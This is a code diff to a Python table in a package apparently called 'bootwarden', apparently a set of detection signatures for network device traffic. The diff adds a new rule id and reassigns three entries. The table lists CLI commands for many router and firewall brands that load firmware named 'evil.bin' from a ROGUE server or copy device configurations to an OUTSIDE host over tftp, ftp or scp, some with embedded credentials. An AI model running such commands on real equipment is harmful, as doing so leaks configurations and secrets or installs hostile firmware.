@@ -9,7 +9,7 @@ from bootwarden.traffic import syslog
 from bootwarden.traffic.telnet import Telnet
 from bootwarden.traffic.wire import Wire
 
-OTHERS_LOAD, OTHERS_SEND = 1542007001, 1542007002
+OTHERS_LOAD, OTHERS_SEND, CARRIERS_SEND = 1542007001, 1542007002, 1542007004
 LOADS = (
     (131, 1, "(WLC) > ", f"transfer download serverip {ROGUE}", None),
     (132, OTHERS_LOAD, "ssg5-> ", f"save software from tftp {ROGUE} evil.bin to flash", "evil.bin"),
@@ -71,14 +71,20 @@ SENDS = (
     (135, OTHERS_SEND, "X440.1 # ", f"tftp {OUTSIDE} -v VR-Mgmt -p -l x.cfg", "x.cfg"),
     (136, OTHERS_SEND, "5520#", f"copy running-config tftp address {OUTSIDE} filename x.cfg", "x.cfg"),
     (137, OTHERS_SEND, "VSP:1#", f"copy /intflash/config.cfg {OUTSIDE}:x.cfg", "x.cfg"),
-    (138, OTHERS_SEND, "fgt1 # ", f"execute backup full-config ftp x.cfg {OUTSIDE} ftpuser ftp-pw-do-not-log", "x.cfg"),
+    (
+        138,
+        CARRIERS_SEND,
+        "fgt1 # ",
+        f"execute backup full-config ftp x.cfg {OUTSIDE} ftpuser ftp-pw-do-not-log",
+        "x.cfg",
+    ),
     (140, OTHERS_SEND, "sx6036 # ", f"configuration upload active scp://u@{OUTSIDE}/x.cfg", "x.cfg"),
     (141, OTHERS_SEND, "ISCOM# ", f"upload startup-config tftp {OUTSIDE} x.cfg", "x.cfg"),
     (143, OTHERS_SEND, "MA5608T#", f"backup configuration tftp {OUTSIDE} x.cfg", "x.cfg"),
     (144, 5, "(Aruba) #", f"copy running-config tftp: {OUTSIDE} x.cfg", "x.cfg"),
     (154, OTHERS_SEND, "Manager > ", f"UPLOAD METHOD=TFTP DESTFILE=x.cfg SERVER={OUTSIDE}", "x.cfg"),
-    (148, OTHERS_SEND, "admin@PA-220> ", f"tftp export tech-support to {OUTSIDE}", None),
-    (149, OTHERS_SEND, "admin@PA-220> ", f"scp export configuration from r.xml to u@{OUTSIDE}:/x", None),
+    (148, CARRIERS_SEND, "admin@PA-220> ", f"tftp export tech-support to {OUTSIDE}", None),
+    (149, CARRIERS_SEND, "admin@PA-220> ", f"scp export configuration from r.xml to u@{OUTSIDE}:/x", None),
     (150, OTHERS_SEND, "A:sr1# ", f"admin save ftp://u:p@{OUTSIDE}/x.cfg", "x.cfg"),
     (151, OTHERS_SEND, "TZ# ", f"export current-config sonicos ftp ftp://u:p@{OUTSIDE}/x.cfg", "x.cfg"),
     (152, 5, "asa(config)# ", f"write net {OUTSIDE}:x.cfg", "x.cfg"),
